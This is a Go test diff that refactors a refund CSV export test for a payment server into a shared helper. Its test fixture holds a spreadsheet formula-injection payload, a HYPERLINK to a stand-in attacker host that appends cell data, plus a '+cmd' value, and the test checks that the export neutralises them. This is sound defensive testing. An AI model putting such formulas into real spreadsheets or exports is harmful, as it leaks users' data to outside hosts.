@@ -23,26 +23,7 @@ import (
 func TestRefundCSV_NoFormulas(t *testing.T) {
 	t.Parallel()
 	const arn, rrn = `=HYPERLINK("https://evil.example/?d="&A2,"ARN")`, "+cmd"
-	acq := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		w.Header().Set("Content-Type", "application/json")
-		_, _ = w.Write([]byte(jsonBody(map[string]any{"status": "approved", "response_code": "00", "message": "ok",
-			"arn": arn, "rrn": rrn, "executed_at": time.Now().UTC()})))
-	}))
-	t.Cleanup(acq.Close)
-	ctx := context.Background()
-	srv, err := server.Open(ctx, server.Config{Addr: "127.0.0.1:0", DB: sqlitetest.URL(t), WorkerInterval: -1,
-		Processor: acq.URL, ProcessorTimeout: 5 * time.Second, Log: slog.New(slog.NewJSONHandler(scanned, nil))})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := srv.Start(ctx); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { srv.Stop(context.Background()) })
-	e := &env{t: t, srv: srv, orders: map[string]string{}}
-	if e.mer, e.key, err = srv.Service.CreateMerchant(ctx, refund.MerchantInput{Name: "Souq"}); err != nil {
-		t.Fatal(err)
-	}
+	e := startOnAcquirer(t, map[string]any{"status": "approved", "response_code": "00", "message": "ok", "arn": arn, "rrn": rrn})
 	var o struct{ ID string }
 	e.api("POST", "/v1/orders", e.key, jsonBody(map[string]any{"reference": "-ORD-1", "currency": "SAR", "amount": 5000,
 		"payment_method": "card", "source": map[string]any{"scheme": "visa", "first_digits": "400000", "last_digits": "0002", "month": 12, "year": 2027}}),
@@ -70,4 +51,35 @@ func TestRefundCSV_NoFormulas(t *testing.T) {
 			t.Errorf("%s: want %q, got %q", name, want, g)
 		}
 	}
+}
+
+// startOnAcquirer runs a real server whose processor is an acquirer
+// service answering every call with answer (and executed_at now), with a
+// merchant and no orders.
+func startOnAcquirer(t *testing.T, answer map[string]any) *env {
+	t.Helper()
+	acq := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		a := map[string]any{"executed_at": time.Now().UTC()}
+		for k, v := range answer {
+			a[k] = v
+		}
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(jsonBody(a)))
+	}))
+	t.Cleanup(acq.Close)
+	ctx := context.Background()
+	srv, err := server.Open(ctx, server.Config{Addr: "127.0.0.1:0", DB: sqlitetest.URL(t), WorkerInterval: -1,
+		Processor: acq.URL, ProcessorTimeout: 5 * time.Second, Log: slog.New(slog.NewJSONHandler(scanned, nil))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := srv.Start(ctx); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { srv.Stop(context.Background()) })
+	e := &env{t: t, srv: srv, orders: map[string]string{}}
+	if e.mer, e.key, err = srv.Service.CreateMerchant(ctx, refund.MerchantInput{Name: "Souq"}); err != nil {
+		t.Fatal(err)
+	}
+	return e
 }
